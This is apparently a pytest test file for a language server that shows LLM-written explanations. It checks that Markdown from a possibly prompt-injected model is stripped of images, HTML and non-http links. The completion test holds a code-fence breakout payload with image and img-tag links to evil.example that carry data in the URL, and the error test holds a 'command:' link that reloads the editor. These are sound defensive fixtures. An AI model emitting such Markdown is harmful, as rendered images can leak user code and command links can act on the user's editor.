"""Over LSP against the fake: whatever Markdown a (prompt-injected) model answers, what the server shows —
hover explanations, fresh and from cache, completion items' documentation, messages — has no image, no HTML
and no link but http(s)."""

from __future__ import annotations

from pathlib import Path

from fake_openrouter import FakeOpenRouter, Reply
from lsp_support import complete, cursor, lsp_session, open_document
from lsprotocol import types
from markdown_payloads import PAYLOADS, markdown_dangers
from pytest_lsp import LanguageClient

FAST = {"hover": {"debounceMs": 0}}


def _functions(count: int) -> str:
    return "\n\n".join(f"def f{i}(a):\n    return a + {i}\n" for i in range(count))


async def _hover(client: LanguageClient, uri: str, line: int) -> str:
    result = await client.text_document_hover_async(
        types.HoverParams(
            text_document=types.TextDocumentIdentifier(uri=uri), position=types.Position(line=line, character=4)
        )
    )
    assert result is not None and isinstance(result.contents, types.MarkupContent)
    assert result.contents.kind == types.MarkupKind.Markdown
    return result.contents.value


async def test_injected_answers_reach_the_hover_without_images_html_or_non_http_links(
    fake: FakeOpenRouter, tmp_path: Path
) -> None:
    names = list(PAYLOADS)
    # One function per payload (explanations are cached by the code), then every one hovered again (from cache).
    fake.script(*(Reply.text(PAYLOADS[name], chunks=[PAYLOADS[name][:7], PAYLOADS[name][7:]]) for name in names))
    async with lsp_session(fake, tmp_path, init_options=FAST) as client:
        uri = open_document(client, _functions(len(names)))
        fresh = {name: await _hover(client, uri, 4 * i) for i, name in enumerate(names)}
        cached = {name: await _hover(client, uri, 4 * i) for i, name in enumerate(names)}
    assert len(fake.chat_requests()) == len(names)  # the second round came from the cache
    for shown in (fresh, cached):
        leaks = {name: markdown_dangers(text) for name, text in shown.items() if markdown_dangers(text)}
        assert leaks == {}
    assert "evil.example" not in fresh["reference image"] and "leak.png" not in fresh["inline image"]
    assert "build status" in fresh["inline image"]  # the alt text is what is left of an image


async def test_completion_documentation_cannot_be_broken_out_of_its_code_block(
    fake: FakeOpenRouter, tmp_path: Path
) -> None:
    payload = 'x = 1\n```\n![leak](https://evil.example/x.png?d=code) <img src="https://evil.example/y.png">'
    fake.default_reply = Reply.text(payload)
    async with lsp_session(fake, tmp_path, configuration={"completion": {"multiline": "always"}}) as client:
        text, position = cursor("def f():\n    █\n")
        uri = open_document(client, text)
        items = (await complete(client, uri, position)).items
    assert items, "the suggestion itself is code and is offered"
    documentation = items[0].documentation
    assert isinstance(documentation, types.MarkupContent)
    assert markdown_dangers(documentation.value) == []


async def test_upstream_error_texts_shown_to_the_user_carry_no_links_but_http(
    fake: FakeOpenRouter, tmp_path: Path
) -> None:
    fake.default_reply = Reply.error(
        502,
        "Provider failed. [Reload now](command:workbench.action.reloadWindow) or see [status](https://status.example)",
    )
    async with lsp_session(fake, tmp_path, init_options=FAST) as client:
        uri = open_document(client, _functions(1))
        result = await client.text_document_hover_async(
            types.HoverParams(
                text_document=types.TextDocumentIdentifier(uri=uri), position=types.Position(line=0, character=4)
            )
        )
        assert result is None
        await client.wait_for_notification(types.WINDOW_SHOW_MESSAGE) if not client.messages else None
    shown = [m.message for m in client.messages if "Provider failed" in m.message]
    assert shown and all("command:" not in m and "](" not in m for m in shown), shown
    assert "status (https://status.example)" in shown[0]
